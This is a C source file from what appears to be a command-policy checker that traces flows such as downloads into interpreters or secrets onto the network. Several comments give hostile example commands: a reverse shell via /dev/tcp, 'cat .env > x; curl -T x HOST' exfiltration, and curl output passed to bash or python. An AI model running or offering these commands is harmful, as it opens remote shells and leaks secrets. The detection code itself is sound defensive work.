/* Flows: what is read from one place and goes to another: a download into an interpreter, a secret onto the network. Where a pipe,
 * a substitution or a variable joins the two, the flow's own verdict counts; merely in one request, at least a review. */
#include "decide/judge.h"

static bool is_point(const cp_judge *j, uint32_t effect, uint32_t point) {
    uint32_t kind = j->calls->effects[effect].effect.kind;
    switch (point) {
    case CP_FLOW_NETWORK: return kind == CP_EFFECT_NETWORK;
    case CP_FLOW_CODE: return kind == CP_EFFECT_CODE;
    case CP_FLOW_SECRETS: return kind == CP_EFFECT_READ && j->secrets[effect] != CP_NO;
    case CP_FLOW_READ: return kind == CP_EFFECT_READ;
    case CP_FLOW_WRITE: return kind == CP_EFFECT_WRITE;
    case CP_FLOW_REMOTE: return kind == CP_EFFECT_REMOTE;
    default: return false;
    }
}

/* Is it a path of which nothing at all is certain? Then it only may be a secret's, as it may be any file's. */
static bool is_any_path(const cp_effect *e) {
    bool any = e->object_kind == CP_OBJECT_PATH && e->target.atom_count > 0;
    for (uint32_t i = 0; i < e->target.atom_count && any; i++)
        any =
            e->target.atoms[i].kind == CP_ATOM_HOLE && e->target.atoms[i].lit.n && !e->target.atoms[i].origin;
    return any;
}

/* Does the flow's own verdict count for what comes from there? A deny that only may hold is a review. */
static bool is_source(const cp_judge *j, uint32_t effect, uint32_t from) {
    return is_point(j, effect, from) &&
           (from != CP_FLOW_SECRETS || !is_any_path(&j->calls->effects[effect].effect));
}

/* Is the call that other one, or what it runs? Its descriptors, and its words, are then the other's. */
static bool runs_within(const cp_calls *calls, uint32_t call, uint32_t other) {
    while (call < calls->call_count && call != other)
        call = calls->calls[call].parent;
    return call == other;
}

/* The calls that hold what this effect brings: its own, and those that it runs where a variable stands among its words. */
static void mark_source(const cp_judge *j, uint32_t effect, uint8_t *reached) {
    const cp_call_effect *e = &j->calls->effects[effect];
    if (e->call >= j->calls->call_count)
        return;
    reached[e->call] = 1;
    for (uint32_t i = e->call + 1;
         e->effect.object_kind == CP_OBJECT_VARIABLE && i < j->calls->call_count && cp_step(j->budget); i++)
        if (runs_within(j->calls, i, e->call))
            reached[i] = 1;
}

/* Calls that get what no call reads: a file from which a group's standard input or a substitution is. */
static void read_by_redirection(const cp_judge *j, uint32_t from, uint8_t *reached, uint8_t *by_words) {
    const cp_calls *calls = j->calls;
    for (uint32_t i = 0; i < calls->flow_count && cp_step(j->budget); i++) {
        const cp_flow *f = &calls->flows[i];
        for (uint32_t k = 0; k < f->read_count && f->read_first + k < calls->effect_count; k++)
            if (f->to < calls->call_count && is_source(j, f->read_first + k, from)) {
                reached[f->to] = 1;
                by_words[f->to] |= !f->by_stdin;
            }
    }
}

/* Calls that get, directly or through others, what the source calls print. By words alone, or by standard input too. */
static void spread(const cp_judge *j, uint8_t *reached, bool through_stdin) {
    bool changed = true;
    while (changed && cp_step(j->budget)) {
        changed = false;
        for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++) {
            const cp_flow *f = &j->calls->flows[i];
            if (f->to >= j->calls->call_count || reached[f->to] || (f->by_stdin && !through_stdin))
                continue;
            for (uint32_t k = 0; k < f->from_count && f->from_first + k < j->calls->call_count; k++)
                if (reached[f->from_first + k]) {
                    reached[f->to] = 1;
                    changed = true;
                    break;
                }
        }
    }
}

/* The files that are surely read or written, as they are; the other effects have none. */
static cp_slice *exact_paths(cp_judge *j) {
    cp_slice *paths = CP_NEW_ARRAY(j->arena, cp_slice, j->calls->effect_count);
    cp_path path;
    for (uint32_t i = 0; paths && i < j->calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *e = &j->calls->effects[i];
        const bool file = e->effect.kind == CP_EFFECT_READ ||
                          (e->effect.kind == CP_EFFECT_WRITE && e->effect.sure == CP_YES);
        paths[i] = (cp_slice){NULL, 0};
        if (!file || e->effect.object_kind != CP_OBJECT_PATH || e->call >= j->calls->call_count ||
            !cp_value_is_exact(&e->effect.target))
            continue;
        cp_path_make(j->arena, &e->effect.target, e->base.count == 1 ? &e->base.values[0] : NULL,
                     j->facts->places, &path);
        if (path.exact)
            paths[i] = path.text;
    }
    return paths;
}

enum { REACHED_BY_FILE = 2 };

/* cat .env > x; curl -T x HOST: calls that read a file that a reached call before them wrote. */
static bool spread_by_files(cp_judge *j, const cp_slice *paths, uint8_t *reached) {
    const cp_calls *calls = j->calls;
    bool changed = false;
    for (uint32_t i = 0; paths && i < calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *e = &calls->effects[i];
        if (!paths[i].n || e->effect.kind != CP_EFFECT_WRITE || !reached[e->call])
            continue;
        for (uint32_t k = 0; k < calls->effect_count && cp_step(j->budget); k++) {
            const cp_call_effect *r = &calls->effects[k];
            if (!paths[k].n || r->effect.kind != CP_EFFECT_READ || r->call <= e->call || reached[r->call] ||
                !cp_slice_eq(paths[k], paths[i]))
                continue;
            reached[r->call] = REACHED_BY_FILE;
            changed = true;
        }
    }
    return changed;
}

static bool range_reached(const cp_judge *j, const uint8_t *reached, uint32_t first, uint32_t count) {
    for (uint32_t k = 0; k < count && first + k < j->calls->call_count; k++)
        if (reached[first + k])
            return true;
    return false;
}

static void say(cp_judge *j, const cp_layer_image *layer, const cp_rec_flow *flow, cp_verdict verdict,
                uint32_t call, cp_span span, bool joined) {
    static const char *const names[] = {"",
                                        "the network",
                                        "code that is run",
                                        "secrets",
                                        "what is read",
                                        "what is written",
                                        "changes elsewhere"};
    const cp_image *im = layer->image;
    const cp_rec_arm *arm = cp_image_arm(im, flow->arm);
    cp_slice why = cp_image_string(im, arm->reason);
    cp_slice from = cp_slice_str(names[flow->from < 7 ? flow->from : 0]),
             into = cp_slice_str(names[flow->to < 7 ? flow->to : 0]);
    cp_slice message =
        why.n    ? why
        : joined ? CP_MESSAGE(j->arena, from, CP_LIT(" flows into "), into)
                 : CP_MESSAGE(j->arena, from, CP_LIT(" and "), into, CP_LIT(" stand in one request"));
    cp_reason reason = {.verdict = verdict,
                        .code = joined ? "flow" : "flow-nearby",
                        .call = call,
                        .layer = layer->layer,
                        .image = im,
                        .rule = cp_image_string(im, flow->id),
                        .message = message,
                        .file = cp_image_string(im, cp_image_file(im, flow->file)->name),
                        .line = flow->line,
                        .span = span};
    cp_add_reason(j, &reason);
}

/* An interpreter whose descriptors are a connection (bash -i >& /dev/tcp/HOST/PORT 0>&1), or one that reads a descriptor while a
 * connection is open somewhere in the request. */
static bool by_descriptor(const cp_judge *j, uint32_t sink) {
    const cp_call_effect *code = &j->calls->effects[sink];
    if (code->call >= j->calls->call_count)
        return false;
    const cp_stdin *in = &j->calls->calls[code->call].in;
    bool descriptor = in->is == CP_STDIN_IS_CALLS && in->from_count == 0;
    if (code->effect.origin.kind != CP_ORIGIN_STDIN && !descriptor)
        return false;
    for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *e = &j->calls->effects[i];
        if (e->effect.kind == CP_EFFECT_NETWORK && e->effect.origin.kind == CP_ORIGIN_REDIRECT &&
            (descriptor || runs_within(j->calls, code->call, e->call)))
            return true;
    }
    return false;
}

/* Did a call that is reached, and stands before this one, write the file that is run? */
static bool is_fetched(cp_judge *j, const uint8_t *reached, const cp_value *file, cp_set base,
                       uint32_t before) {
    const cp_calls *calls = j->calls;
    cp_path run, written;
    cp_path_make(j->arena, file, base.count == 1 ? &base.values[0] : NULL, j->facts->places, &run);
    if (!run.exact)
        return false;
    for (uint32_t i = 0; i < calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *e = &calls->effects[i];
        if (e->effect.kind != CP_EFFECT_WRITE || e->effect.object_kind != CP_OBJECT_PATH ||
            e->effect.sure != CP_YES || e->call >= before || e->call >= calls->call_count ||
            !reached[e->call])
            continue;
        cp_path_make(j->arena, &e->effect.target, e->base.count == 1 ? &e->base.values[0] : NULL,
                     j->facts->places, &written);
        if (written.exact && cp_slice_eq(written.text, run.text))
            return true;
    }
    return false;
}

/* Does it carry what a reached call printed, or a file that is a source itself? */
static bool brings(const cp_judge *j, const cp_flow *f, uint32_t from, const uint8_t *reached) {
    bool source = range_reached(j, reached, f->from_first, f->from_count);
    for (uint32_t k = 0; !source && k < f->read_count && f->read_first + k < j->calls->effect_count; k++)
        source = is_source(j, f->read_first + k, from);
    return source;
}

/* $(curl HOST/x), or read -r line; $line: is the command word what a reached call printed? */
static bool names_command(const cp_judge *j, uint32_t from, const uint8_t *reached, uint32_t call) {
    for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++) {
        const cp_flow *f = &j->calls->flows[i];
        if (f->to == call && f->by_command && brings(j, f, from, reached))
            return true;
    }
    return false;
}

/* The verdict of a flow into something that the call does. */
static void count(cp_judge *j, uint32_t call, cp_verdict verdict) {
    if (call < j->calls->call_count)
        j->out->call_verdicts[call] = (uint8_t)cp_strictest((cp_verdict)j->out->call_verdicts[call], verdict);
    j->out->verdict = cp_strictest((cp_verdict)j->out->verdict, verdict);
}

/* psql "$DATABASE_URL": what is read is nothing but the address, and goes where it says itself. */
static bool is_address(const cp_effect *read, const cp_effect *sink) {
    const cp_atom *whole = sink->target.atom_count == 1 ? &sink->target.atoms[0] : NULL;
    return read->object_kind == CP_OBJECT_VARIABLE && cp_value_is_exact(&read->target) && whole &&
           whole->kind == CP_ATOM_HOLE && !whole->origin && cp_slice_eq(whole->lit, read->target.exact);
}

/* Does nothing come to this call from there but what is its address, or, as in pandoc "$d/.env", a word that is a file's name or an
 * address? */
static bool is_apart(const cp_judge *j, uint32_t sink, uint32_t from, const uint8_t *reached) {
    const cp_call_effect *s = &j->calls->effects[sink];
    if (reached[s->call] == REACHED_BY_FILE)
        return false;
    for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++) {
        const cp_flow *f = &j->calls->flows[i];
        if (f->to == s->call && brings(j, f, from, reached))
            return false;
    }
    for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *e = &j->calls->effects[i];
        bool same = s->effect.sure != CP_YES && e->call == s->call &&
                    e->effect.origin.kind == s->effect.origin.kind &&
                    e->effect.origin.index == s->effect.origin.index;
        if (!same && !is_address(&e->effect, &s->effect) && is_source(j, i, from) &&
            (e->call == s->call || runs_within(j->calls, s->call, e->call)))
            return false;
    }
    return true;
}

/* python3 -c "$(curl HOST)": does a word of the call come from what is reached? Where the call surely reaches there itself,
 * what it fetches is its own matter. */
static bool is_handed(const cp_judge *j, uint32_t call, uint32_t from, const uint8_t *by_words) {
    for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *e = &j->calls->effects[i];
        if (e->call == call && e->effect.sure == CP_YES && is_source(j, i, from))
            return false;
    }
    for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++) {
        const cp_flow *f = &j->calls->flows[i];
        if (f->to == call && !f->by_stdin && range_reached(j, by_words, f->from_first, f->from_count))
            return true;
    }
    return false;
}

static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_flow *flow, uint8_t *reached,
                       uint8_t *by_words) {
    uint32_t calls = j->calls->call_count, first = 0;
    while (first < j->calls->effect_count && !is_point(j, first, flow->from) && cp_step(j->budget))
        first++;
    if (first == j->calls->effect_count)
        return; /* nothing comes from there, as in most requests */
    cp_arm_choice choice = cp_choose_arm(j, layer->image, flow->arm, 1, NULL);
    if (choice.verdict == CP_IV_NONE || cp_verdict_of(choice.verdict) == CP_ALLOW)
        return;
    cp_verdict own = cp_verdict_of(choice.verdict);
    memset(reached, 0, calls);
    for (uint32_t i = first; i < j->calls->effect_count && cp_step(j->budget); i++)
        if (is_source(j, i, flow->from))
            mark_source(j, i, reached);
    uint8_t *source = by_words + calls;
    memcpy(source, reached, calls);
    memcpy(by_words, reached, calls);
    read_by_redirection(j, flow->from, reached, by_words);
    const cp_slice *paths = exact_paths(j);
    do
        spread(j, reached, true);
    while (spread_by_files(j, paths, reached) && cp_step(j->budget));
    spread(j, by_words, false);
    for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
        const cp_call_effect *sink = &j->calls->effects[i];
        if (!is_point(j, i, flow->to) || j->named[i])
            continue; /* what a policy allows by its name may be reached by whatever flows */
        bool joined;
        if (flow->from == CP_FLOW_NETWORK && flow->to == CP_FLOW_CODE) {
            /* What one program both fetches and runs is its own matter, and its rule's. */
            joined =
                range_reached(j, reached, sink->from_first, sink->from_count) ||
                (sink->effect.origin.kind != CP_ORIGIN_STDIN && sink->call < calls && by_words[sink->call] &&
                 (!source[sink->call] || is_handed(j, sink->call, flow->from, by_words)));
            joined |=
                by_descriptor(j, i) || is_fetched(j, reached, &sink->effect.target, sink->base, sink->call);
        } else {
            joined = sink->call < calls && reached[sink->call] && !is_apart(j, i, flow->from, reached);
        }
        cp_verdict verdict = joined ? own : CP_REVIEW;
        if (verdict >= (cp_verdict)j->out->effect_verdicts[i] && !joined)
            continue; /* nothing new */
        j->out->effect_verdicts[i] = (uint8_t)cp_strictest((cp_verdict)j->out->effect_verdicts[i], verdict);
        count(j, sink->call, verdict);
        say(j, layer, flow, verdict, sink->call, sink->effect.span, joined);
    }
    for (uint32_t i = 0; flow->from == CP_FLOW_NETWORK && flow->to == CP_FLOW_CODE && i < calls; i++) {
        const cp_call *call = &j->calls->calls[i];
        if (call->domain == CP_DOMAIN_LOCAL &&
            ((call->identity == CP_IDENTITY_PATH && is_fetched(j, reached, &call->command, call->cwd, i)) ||
             (call->identity == CP_IDENTITY_DYNAMIC && names_command(j, flow->from, reached, i)))) {
            count(j, i, own);
            say(j, layer, flow, own, i, call->span, true);
        }
    }
}

void cp_judge_flows(cp_judge *j) {
    uint32_t calls = j->calls->call_count;
    bool any = false;
    for (uint32_t i = 0; i < j->layers->count; i++)
        any |= cp_image_count(j->layers->items[i].image, CP_SEC_FLOW) > 1;
    if (!any || !calls || !j->calls->effect_count)
        return;
    uint8_t *reached = CP_NEW_ARRAY(j->arena, uint8_t, calls);
    uint8_t *by_words = CP_NEW_ARRAY(j->arena, uint8_t, (size_t)calls * 2);
    if (!reached || !by_words)
        return;
    for (uint32_t i = 0; i < j->layers->count; i++)
        for (uint32_t k = 1; k < cp_image_count(j->layers->items[i].image, CP_SEC_FLOW) && cp_step(j->budget);
             k++)
            judge_flow(j, &j->layers->items[i], cp_image_flow(j->layers->items[i].image, k), reached,
                       by_words);
}
